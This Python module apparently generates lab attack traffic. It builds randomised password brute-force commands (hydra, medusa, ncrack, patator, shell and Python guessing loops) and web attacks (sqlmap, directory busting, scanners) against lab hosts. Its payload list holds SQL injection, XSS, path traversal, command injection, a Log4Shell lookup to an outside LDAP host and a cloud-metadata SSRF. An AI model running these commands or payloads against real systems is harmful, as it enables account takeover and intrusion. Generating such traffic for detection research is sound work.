"""Passwords and web applications: each tool with what people set at it. Word lists are those of nmap and dirb."""

import shlex

LINE = "\\n"
PORT = {"ssh": 22, "ftp": 21, "telnet": 23, "smtp": 25, "pop3": 110, "imap": 143, "mysql": 3306, "postgres": 5432, "redis": 6379, "smb": 445, "http": 80, "https": 443}
OTHER = {"ssh": (2222, 2200, 22022), "http": (8080, 8000, 5000), "ftp": (2121,), "https": (8443,)}


def service(s, *kinds):
    """(kind, address, port): a service at its own port, or behind another as people move it."""
    kind = s.one(*kinds)
    host = {"ssh": "ssh", "http": "web", "https": "web"}.get(kind, "files")
    t, port = s.target(host), PORT[kind]
    if kind in OTHER and s.r.random() < 0.25:
        port = s.one(*OTHER[kind]); s.door = f"{host} {port} {PORT[kind]}"
    s.victim = t
    return kind, t, port


def listed(s, low=20, high=250):
    n = s.between(low, high)
    s.before += f"passwords_of {n}; "
    return n, f"$LAB_DIR/pw-{n}"


def names(s, n):
    s.before += f"seq -f user%g {n} >$LAB_DIR/names-{n}; "
    return f"$LAB_DIR/names-{n}"


def hydra(s):
    kind, t, port = service(s, "ssh", "ssh", "ssh", "ftp", "ftp", "telnet", "smtp", "pop3", "imap", "mysql", "postgres", "redis", "smb", "http", "http", "http", "https")
    n, words_file = listed(s)
    tasks = s.one(1, 2, 4, 4, 8, 16, 16, 32)
    who = f"-P {words_file}" if kind == "redis" else s.one(f"-l {s.one('admin', 'root', 'user')} -P {words_file}", f"-l {s.one('admin', 'root', 'user')} -P {words_file}", f"-L {names(s, 40)} -p Welcome1", f"-L {names(s, 5)} -P {words_file}")
    wait = s.maybe(0.25, s.one("-c 1", "-W 2", "-w 5"))
    if wait == "-c 1":
        tasks = 1
    module = kind
    if kind in ("http", "https"):
        form = s.one("get /login", f"post-form '/signin:{s.one('user', 'username', 'log')}=^USER^&{s.one('pass', 'password', 'pwd')}=^PASS^:Invalid'", "post-form '/signin:user=^USER^&pass=^PASS^&submit=Login:F=Invalid'", "head /login")
        module = f"{kind}-{form}"
    words = f"hydra -I {who} -t {tasks} {wait} {s.maybe(.3, '-f')} {s.maybe(.2, '-u')} {'-6' if s.six else ''} -s {port} {t} {module}"
    return words.replace("$LAB_DIR/", ""), 45, words


def medusa(s):
    kind, t, port = service(s, "ssh", "ssh", "ftp", "imap", "pop3", "mysql", "postgres", "telnet", "http", "smtp")
    n, f = listed(s, 20, 150)
    module = {"smtp": "smtp-vrfy"}.get(kind, kind)
    if module == "smtp-vrfy":
        module, port = "ftp", 21
    if s.six:
        s.six = False; t = s.victim = f"10.20.0.{dict(ssh=20, http=10).get(kind, 30)}"
    words = f"medusa -h {t} -n {port} -u {s.one('admin', 'root')} -P {f} -M {module} -t {s.one(1, 2, 4, 8)} {s.maybe(.2, '-f')} {'-m DIR:/login' if kind == 'http' else ''}"
    return words.replace("$LAB_DIR/", ""), 45, words


def ncrack(s):
    s.six = False
    kind, t, port = service(s, "ssh", "ssh", "ftp", "telnet", "pop3", "imap", "mysql", "postgres", "redis")
    n, f = listed(s, 20, 200)
    words = f"ncrack -T{s.one(2, 3, 3, 4, 5)} --user {s.one('admin', 'root,admin', 'test')} -P {f} {dict(postgres='psql').get(kind, kind)}://{t}:{port}{s.maybe(.3, ',CL=2')}{s.maybe(.2, ',at=2')}"
    return words.replace("$LAB_DIR/", ""), 45, words


def patator(s):
    s.six = False
    kind, t, port = service(s, "ssh", "ftp", "http", "mysql", "telnet")
    n, f = listed(s, 20, 150)
    rest = {"ssh": f"ssh_login host={t} port={port} user=root password=FILE0", "ftp": f"ftp_login host={t} port={port} user=admin password=FILE0", "mysql": f"mysql_login host={t} user=root password=FILE0",
            "telnet": f"telnet_login host={t} inputs='admin{LINE}FILE0' prompt_re='login:|Password:' timeout=10", "http": f"http_fuzz url=http://{t}:{port}/signin method=POST body='user=admin&pass=FILE0' -x ignore:fgrep=Invalid"}[kind]
    words = f"patator {rest} 0={f} -t {s.one(1, 2, 5, 10)} {s.option(.3, '--rate-limit=<>', 0.3, 1)}"
    return words.replace("$LAB_DIR/", ""), 45, words


def nse(s):
    s.six = False
    kind, t, port = service(s, "ssh", "ftp", "mysql", "http", "telnet", "imap", "redis")
    n, f = listed(s, 20, 100); who = names(s, 3)
    script = {"http": "http-brute --script-args http-brute.path=/login,"}.get(kind, f"{kind}-brute --script-args ")
    words = f"nmap -n -Pn -p {port} {'-sV' if port != PORT[kind] else ''} --script {script}userdb={who},passdb={f},brute.threads={s.one(1, 3, 5, 10)} {t}"
    return words.replace("$LAB_DIR/", ""), 50, words


def loop(s):
    kind, t, port = service(s, "ssh", "ssh", "ftp", "http", "http", "http", "https", "mysql", "postgres", "redis", "smb", "imap")
    pause, u = s.one(0, 0, 0.3, 0.5, 1, 2), s.url(t)
    n, f = listed(s, 25, 45 if pause >= 1 else 150)
    agent = s.option(0.3, "-A '<>'", "Mozilla/5.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36")
    way = {"ssh": f"timeout 8 sshpass -p \"$w\" ssh -p {port} -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no {s.maybe(.5, '-o NumberOfPasswordPrompts=1')} root@{t} true",
           "ftp": f"curl -s -m 8 -u \"admin:$w\" ftp://{t}:{port}/", "imap": f"curl -s -m 8 -u \"admin:$w\" imap://{t}/",
           "mysql": f"timeout 5 mariadb -h {t} -u admin -p\"$w\" -e 'select 1'", "postgres": f"PGPASSWORD=\"$w\" PGCONNECT_TIMEOUT=5 psql -h {t} -U postgres -c 'select 1'", "redis": f"timeout 5 redis-cli -h {t} -a \"$w\" ping",
           "smb": f"timeout 6 smbclient -U \"admin%$w\" //{t}/share -c ls"}.get(kind)
    if way is None:
        way = s.one(f"curl -sk {agent} -o /dev/null -m 8 -d \"user=admin&pass=$w\" {kind}://{u}:{port}/signin", f"curl -sk {agent} -o /dev/null -m 8 -u \"admin:$w\" {kind}://{u}:{port}/login",
                    f"curl -sk {agent} -o /dev/null -m 8 -H 'Content-Type: application/json' -d \"{{\\\"username\\\":\\\"admin\\\",\\\"password\\\":\\\"$w\\\"}}\" {kind}://{u}:{port}/api/login",
                    f"wget -q -O /dev/null --tries=1 --timeout=8 --no-check-certificate --post-data=\"log=admin&pwd=$w\" {kind}://{u}:{port}/signin")
    shown = " ".join(way.split() if kind.startswith("http") else way.split()[:4])
    words = f"loop of {shown} {n} words pause {pause}"
    return words, 60, f"while read -r w <&9; do {way}; sleep {pause}; done 9<{f}"


def python(s):
    s.six = False
    kind, t, port = service(s, "ftp", "imap", "pop3", "smtp", "http", "http")
    n, f = listed(s, 20, 150)
    pause, threads = s.one(0, 0, 0.2, 1), s.one(1, 1, 4, 10)
    body = {"ftp": f"import ftplib\n f=ftplib.FTP();f.connect('{t}',{port},timeout=8);f.login('admin',w)", "imap": f"import imaplib\n imaplib.IMAP4('{t}').login('admin',w)", "pop3": f"import poplib\n p=poplib.POP3('{t}');p.user('admin');p.pass_(w)",
            "smtp": f"import smtplib\n p=smtplib.SMTP('{t}');p.login('admin',w)", "http": f"import urllib.request,urllib.parse\n urllib.request.urlopen('http://{t}:{port}/signin',urllib.parse.urlencode(dict(username='admin',password=w)).encode(),timeout=8).read()"}[kind].split("\n ")
    words = f"python {body[0].split()[1].split(',')[0]} {kind}:{port} {n} words {threads} threads pause {pause}"
    return words, 50, f"""python3 -c "
import time
from concurrent.futures import ThreadPoolExecutor as E
{body[0]}
def go(w):
    try: {body[1]}
    except Exception: pass
    time.sleep({pause})
list(E({threads}).map(go,open('{f}').read().split()))" """


PASSWORDS = {"hydra": (hydra, 7), "medusa": (medusa, 2), "ncrack": (ncrack, 2), "patator": (patator, 2), "nse": (nse, 1), "loop": (loop, 4), "python": (python, 2)}


def site(s, tls=0.3):
    kind, t, port = service(s, "https" if s.r.random() < tls else "http")
    return t, f"{kind}://{s.url(t)}" + ("" if port == PORT[kind] else f":{port}")


def wordlist(s):
    return s.one("/usr/share/dirb/wordlists/common.txt", "/usr/share/dirb/wordlists/common.txt", "/usr/share/dirb/wordlists/small.txt", "/usr/share/dirb/wordlists/vulns/apache.txt", "/usr/share/dirb/wordlists/vulns/tomcat.txt")


def sqlmap(s):
    t, u = site(s, 0.15)
    where = s.one(f"-u '{u}/item?id=1'", f"-u '{u}/item?id=1&name=chair'", f"-u {u}/item --data 'id=1&name=chair'", f"-u {u}/item --cookie 'id=1' --level 2")
    words = f"sqlmap --batch {where} {s.maybe(.4, '--random-agent')} {s.option(.3, '--technique <>', 'B', 'E', 'U', 'S', 'T', 'BEU')} {s.option(.3, '--delay <>', 0.2, 0.5, 1)} {s.option(.3, '--threads <>', 2, 4, 8)} {s.maybe(.2, '--tamper space2comment')} {s.maybe(.2, '--dbs')}"
    return words, 40, words + " --disable-coloring --timeout 5"


def dirs(s):
    t, u = site(s); f = wordlist(s); x = s.maybe(.3, s.one("php", "php,txt", "bak")); dotted = x.replace(",", ",.")
    return s.one(lambda: f"dirb {u}/ {f} -S {s.maybe(.3, '-r')} {s.option(.2, '-z <>', 50, 200)} {x and '-X .' + dotted}",
                 lambda: f"gobuster dir -q -z {'-k' if u[4] == 's' else ''} -t {s.one(1, 5, 10, 40)} {s.option(.3, '--delay <>', '100ms', '500ms')} {x and '-x ' + x} -u {u} -w {f}",
                 lambda: f"ffuf -s {'-k' if u[4] == 's' else ''} -t {s.one(1, 10, 40)} {s.option(.4, '-p <>', 0.5, 0.2, 0.05, 0.01)} {x and '-e .' + dotted} -u {u}/FUZZ -w {f}",
                 lambda: f"wfuzz --hc 404 -t {s.one(5, 10, 20)} {s.option(.3, '-s <>', 0.1, 0.5)} -w {f} {u}/FUZZ",
                 lambda: f"dirsearch -u {u}/ -w {f} -t {s.one(5, 25)} -q --no-color -o /dev/null --format plain {s.maybe(.3, '--random-agent')} {x and '-e ' + x}")()


def guess_dirs(s):
    words = dirs(s)
    return words, 40, words


PAYLOADS = ["/item?id=1'%20OR%20'1'='1", "/item?id=1%20UNION%20SELECT%201,2,3--%20-", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/page?file=../../../../etc/passwd", "/index.php?page=php://filter/convert.base64-encode/resource=index",
            "/ping?host=127.0.0.1;id", "/item?id=1;WAITFOR%20DELAY%20'0:0:5'--", "/item?id=1%20AND%20SLEEP(5)", "/search?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/view?doc=....//....//....//etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
            "/?x=$%7Bjndi:ldap://10.9.9.9/a%7D", "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/server-status", "/backup.zip", "/?cmd=cat%20/etc/passwd", "/fetch?url=http://169.254.169.254/latest/meta-data/", "/render?t=%7B%7B7*7%7D%7D"]


def curl(s):
    t, u = site(s, 0)
    some, pause = s.r.sample(PAYLOADS, s.one(5, 8, 12, 16)), s.one(0, 0.3, 1, 2)
    agent = s.maybe(.5, "-A 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36'")
    words = f"curl {agent} {len(some)} payloads pause {pause}: {some[0]} {some[1]} …"
    return words, 50, "\n".join(f"curl -s --path-as-is -g -m 5 -o /dev/null {agent} {shlex.quote(u + p)}; sleep {pause}" for p in some)


def probes(s):
    t, u = site(s)
    host, _, port = u.split("//")[1].rpartition(":") if not u.endswith("]") and u.count(":") > 1 else (u.split("//")[1], "", "443" if u[4] == "s" else "80")
    words = s.one(f"whatweb -a {s.one(1, 3, 3, 4)} --color=never {u}/", f"wapiti -u '{u}/item?id=1' --scope url --flush-session --max-scan-time 35 --no-bugreport -m {s.one('sql,xss,file', 'exec,file', 'backup,htaccess,nikto', 'xss')}",
                  f"nmap {'-6' if s.six else ''} -n -Pn -p {port} --script {s.one('http-enum', 'http-enum,http-headers,http-methods', 'http-vuln*,http-shellshock', 'http-sql-injection,http-backup-finder,http-config-backup')} {t}")
    return words, 45, words


def paths(s):
    t, u = site(s, 0.4)
    pause, count = s.one(0, 0.1, 0.5, 1), 0
    count = s.between(30, 45 if pause else 200)
    tool = s.one("curl -sk -m 5 -o /dev/null", "wget -q -O /dev/null --tries=1 --timeout=5 --no-check-certificate", "curl -skI -m 5 -o /dev/null")
    words = f"{tool.split()[0]} loop of {count} paths pause {pause} at {u}"
    return words, 60, f"grep -v '^$' /usr/share/dirb/wordlists/common.txt | awk 'NR % 7 == 3' | head -n {count} | while read -r w; do {tool} {u}/$w; sleep {pause}; done"


WEB = {"sqlmap": (sqlmap, 4), "dirs": (guess_dirs, 5), "curl": (curl, 3), "probes": (probes, 2), "paths": (paths, 2)}
